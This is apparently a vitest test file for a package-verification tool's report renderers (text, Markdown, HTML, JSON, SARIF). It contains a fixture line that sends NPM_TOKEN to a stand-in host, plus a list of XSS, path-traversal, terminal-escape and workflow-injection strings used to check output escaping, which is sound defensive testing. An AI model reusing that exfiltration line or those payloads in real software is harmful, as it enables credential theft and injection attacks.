import sarifSchema from '@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json' with { type: 'json' };
import { Ajv } from 'ajv';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, test } from 'vitest';
import { FORMATS } from '../../src/report/formats.ts';
import type { ResultDocument } from '../../src/report/document.ts';
import { reportOf } from '../../src/report/report.ts';
import { renderSarif } from '../../src/report/sarif.ts';
import { divergedDocument, hostileDocument } from '../support/documents.ts';

const printed = (document: ResultDocument) => ({ document, report: reportOf(document) });
const OPTIONS = { color: false, width: 100 };
const PAYLOAD = "require('https').get('https://collect.example/'+process.env.NPM_TOKEN);";

describe('a statement in a bundle', () => {
  test.each(['text', 'markdown'] as const)('is shown as %s', async (format) => {
    const shown = FORMATS[format](printed(divergedDocument()), OPTIONS);
    await expect(shown).toMatchFileSnapshot(`snapshots/diverged-${format}.txt`);
    expect(shown).toContain(PAYLOAD);
    expect(shown).toContain('talks to the network');
  });

  test('is shown on the page, with what it can do before everything else', () => {
    const page = FORMATS.html(printed(divergedDocument()), OPTIONS);
    const texts = textsOf(parse(page));
    expect(texts).toContain(PAYLOAD);
    expect(texts.indexOf('talks to the network')).toBeLessThan(texts.indexOf('Findings'));
  });

  test.each(['text', 'markdown', 'html'] as const)(
    'is shown before others that are as bad, as %s',
    (format) => {
      const document = divergedDocument();
      const others = Array.from({ length: 30 }, (_, index) => ({
        kind: 'file-changed',
        severity: 'high' as const,
        path: `dist/${index}.js`,
        message: `Another: dist/${index}.js.`,
        evidence: {},
      }));
      const findings = [...others, ...document.findings];
      const shown = FORMATS[format](printed({ ...document, findings }), OPTIONS).replaceAll('&#39;', "'");
      const at = shown.indexOf(PAYLOAD.slice(0, 30));
      expect(at).toBeGreaterThan(0);
      expect(at).toBeLessThan(shown.indexOf('Another'));
    },
  );

  test('is a result of SARIF, at its line and with its text', () => {
    const [run] = renderSarif(reportOf(divergedDocument())).runs;
    expect(run?.results?.[0]).toMatchObject({
      ruleId: 'file-changed',
      level: 'error',
      locations: [
        {
          physicalLocation: {
            artifactLocation: { uri: 'dist/bundle.js' },
            region: { startLine: 1, snippet: { text: expect.stringContaining(PAYLOAD) as string } },
          },
        },
      ],
    });
    const rules = run?.tool.driver.rules?.map(({ id }) => id) ?? [];
    expect(run?.results?.every(({ ruleId }) => rules.includes(ruleId ?? ''))).toBe(true);
  });

  test('is in the JSON document', () => {
    expect(JSON.parse(FORMATS.json(printed(divergedDocument()), OPTIONS))).toEqual(divergedDocument());
  });
});

test.each(['text', 'markdown', 'sarif', 'html'] as const)(
  'that code was not read is said as %s',
  (format) => {
    const document = divergedDocument();
    const findings = document.findings.map((finding) => {
      return { ...finding, evidence: { ...finding.evidence, code: { unread: 'it is larger than 4 MiB' } } };
    });
    const shown = FORMATS[format](printed({ ...document, findings }), OPTIONS);
    expect(shown).toContain('may do more than is known');
    expect(shown).toContain('it is larger than 4 MiB');
  },
);

test.each(['text', 'markdown'] as const)(
  'the worst signal is shown, however many there are, as %s',
  (format) => {
    const mild = Array.from({ length: 30 }, (_, index) => ({
      kind: 'published-recently',
      severity: 'info' as const,
      message: `Mild ${index}.`,
    }));
    const grave = { kind: 'tag-moved', severity: 'high' as const, message: 'The tag has been moved.' };
    const shown = FORMATS[format](printed(divergedDocument({ signals: [...mild, grave] })), OPTIONS);
    expect(shown).toContain('tag has been moved');
  },
);

test('what cannot be verified is a result of SARIF as well', () => {
  const reason = { code: 'no-repository', message: 'It names none.' } as const;
  const document = divergedDocument({ verdict: 'unverifiable', reason, findings: [], signals: [] });
  expect(renderSarif(reportOf(document)).runs[0]?.results).toMatchObject([
    { ruleId: 'unverifiable-no-repository', level: 'note' },
  ]);
});

/** The published schema; formats are looked at below. */
const draft = Object.fromEntries(
  Object.entries(sarifSchema).filter(([key]) => key !== '$schema' && key !== 'id'),
);
const isSarif = new Ajv({ strict: false, validateFormats: false, unicodeRegExp: false }).compile(draft);

/** What GitHub's code scanning wants of each result and rule ("SARIF support for code scanning"). */
function expectShownByGitHub(document: ResultDocument): void {
  const [run] = renderSarif(reportOf(document)).runs;
  const results = run?.results ?? [];
  for (const { ruleId, message, locations = [], partialFingerprints } of results) {
    expect(ruleId).toMatch(/./);
    expect(message.text).toMatch(/./);
    const { artifactLocation, region } = locations[0]?.physicalLocation ?? {};
    // Relative (RFC 3986, section 4.2), and nothing in it that had to be escaped.
    expect(artifactLocation?.uri).toMatch(/^(?:[\w.~!$&'()*+,;=@-]|%[\dA-F]{2})[\w.~!$&'()*+,;=@:/%-]*$/);
    expect(() => decodeURIComponent(artifactLocation?.uri ?? '%')).not.toThrow();
    expect(region?.startLine).toBeGreaterThanOrEqual(1);
    expect(Object.values(partialFingerprints ?? {}).join('')).toMatch(/./);
  }
  const prints = results.map((one) => JSON.stringify(one.partialFingerprints));
  expect(new Set(prints).size).toBe(results.length);
  for (const rule of run?.tool.driver.rules ?? []) {
    expect([rule.shortDescription?.text, rule.fullDescription?.text, rule.help?.text]).not.toContain(
      undefined,
    );
  }
}

describe('a log of SARIF', () => {
  const twice = divergedDocument();
  const documents: readonly (readonly [string, ResultDocument])[] = [
    ['a divergence', divergedDocument()],
    ['two findings of one kind and path', { ...twice, findings: [...twice.findings, ...twice.findings] }],
    [
      'an unverifiable package',
      divergedDocument({
        verdict: 'unverifiable',
        reason: { code: 'no-repository', message: 'It names none.' },
        findings: [],
      }),
    ],
    [
      'a reproduced package',
      divergedDocument({ verdict: 'reproduced', level: 'bytes', findings: [], signals: [] }),
    ],
  ];
  test.each(documents)('of %s is one by the published schema, and what GitHub shows', (_name, document) => {
    const log: unknown = JSON.parse(FORMATS.sarif(printed(document), OPTIONS));
    isSarif(log);
    expect(isSarif.errors).toBeNull();
    expectShownByGitHub(document);
  });

  test('(the schema refuses what is none)', () => {
    const log = renderSarif(reportOf(divergedDocument()));
    expect(isSarif({ ...log, version: '2.0.0' })).toBe(false);
    const runs = log.runs.map((run) => ({ ...run, results: [{ ruleId: 'x' }] }));
    expect(isSarif({ ...log, runs })).toBe(false);
  });
});

const HOSTILE = [
  ['a script', '<script>alert(1)</script>'],
  ['the end of the style', '</style><script>alert(1)</script>'],
  ['an attribute', '" onmouseover="alert(1)" x=\''],
  ['an image', '<img src=https://collect.example/ onerror=alert(1)>'],
  ['a comment', '--><!--<b>'],
  ['an entity', '&lt;b&gt;&#60;'],
  ['a title', '</title><h1>reproduced</h1>'],
  ['a link of Markdown', '[click](https://collect.example/) ![x](https://collect.example/x.png)'],
  ['a mention', 'thanks @everyone, see #1 and https://collect.example/'],
  ['the end of a fence', '```\n# reproduced\n````'],
  ['the end of a span', '`` ` **bold** `'],
  ['a table', 'a | b\n| --- | --- |'],
  ['an HTML block', '\n\n<details open><summary>reproduced</summary>'],
  ['a terminal escape', '\u001b[2J\u001b]0;x\u0007'],
  ['a bidi override', '\u202ereproduced\u2066'],
  ['a lone surrogate', '\ud800'],
  ['a path upwards', '../../etc/passwd'],
  ['a script address', 'javascript:alert(1)//https://github.com/'],
  ['an address', 'https://collect.example/x y?#%zz'],
  ['a path of Windows', 'C:\\x\\..\\y'],
  ['a path from the root', '/etc/passwd'],
  ['a command of a workflow', '\n::set-output name=x::y\n##[error]x'],
  ['a link of a terminal', '\u001b]8;;https://collect.example\u001b\\x\u001b]8;;\u001b\\'],
  ['a control of eight bits', '\u009b2J\u0085'],
  ['nothing', ''],
] as const;

describe('attack: names, contents and messages that hold', () => {
  test.each(HOSTILE)('%s stay text on the page', (_, text) => {
    const page = parse(FORMATS.html(printed(hostileDocument(text)), OPTIONS));
    const elements = elementsOf(page);
    expect(elements.map(({ tagName }) => tagName).filter((name) => !ALLOWED.has(name))).toEqual([]);
    const attributes = elements.flatMap(({ attrs }) => attrs.map(({ name }) => name));
    expect(attributes.filter((name) => name.startsWith('on') || name === 'src')).toEqual([]);
    expect(elements.filter(({ tagName }) => tagName === 'a')).toEqual([]);
    expect(elements.filter(({ tagName }) => tagName === 'h1').length).toBe(1);
  });

  test.each(HOSTILE)('%s are no control characters of the terminal or the page', (_, text) => {
    for (const format of ['text', 'markdown', 'html', 'json', 'sarif'] as const) {
      expect(FORMATS[format](printed(hostileDocument(text)), OPTIONS)).not.toMatch(
        /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
      );
    }
  });

  test.each(HOSTILE)('%s are the same value in JSON', (_, text) => {
    const document = hostileDocument(`${text}\u{e0041}\ufeff`);
    const shown = FORMATS.json(printed(document), OPTIONS);
    expect(JSON.parse(shown)).toEqual(document);
    expect(shown).not.toMatch(/[\u{e0000}-\u{e01ef}]|\ufeff/u);
  });

  test.each(HOSTILE)('%s stay text in Markdown', (_, text) => {
    const shown = withoutCode(FORMATS.markdown(printed(hostileDocument(text)), OPTIONS));
    expect(shown).not.toMatch(/(?<!\\)[[\]<>]|@\w|https?:\/\//);
    expect(shown.match(/^#+ /gm)?.length).toBe(1);
  });

  test.each(HOSTILE)('%s stay in their place in SARIF', (_, text) => {
    isSarif(JSON.parse(FORMATS.sarif(printed(hostileDocument(text)), OPTIONS)));
    expect(isSarif.errors).toBeNull();
    expectShownByGitHub(hostileDocument(text));
    const log = renderSarif(reportOf(hostileDocument(text)));
    const uris = log.runs[0]?.results?.map(
      (one) => one.locations?.[0]?.physicalLocation?.artifactLocation?.uri,
    );
    expect(uris?.every((uri) => uri !== undefined && !/(?:^|\/)\.\.?(?:\/|$)|^\w+:|^\/\//.test(uri))).toBe(
      true,
    );
  });
});

const ALLOWED: ReadonlySet<string> = new Set(
  'html head meta title style body header footer section article h1 h2 h3 p ul ol li b code pre span table thead tbody tr th td details summary a'.split(
    ' ',
  ),
);

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

function elementsOf(node: Node): readonly Element[] {
  const children = 'childNodes' in node ? node.childNodes : [];
  return [...('tagName' in node ? [node] : []), ...children.flatMap((one) => elementsOf(one))];
}

function textsOf(node: Node): readonly string[] {
  if (node.nodeName === '#text') return [(node as DefaultTreeAdapterTypes.TextNode).value];
  return 'childNodes' in node ? node.childNodes.flatMap((one) => textsOf(one)) : [];
}

/** Markdown without its code spans and fenced blocks. */
function withoutCode(markdown: string): string {
  return markdown
    .replace('<details><summary>How it was verified</summary>', '')
    .replace('</details>', '')
    .replaceAll(/^ *(`{3,})diff\n[\s\S]*?\n *\1$/gm, '')
    .replaceAll(/(?<!`)(`+)(?!`)[^\n]*?[^`](\1)(?!`)/g, '');
}
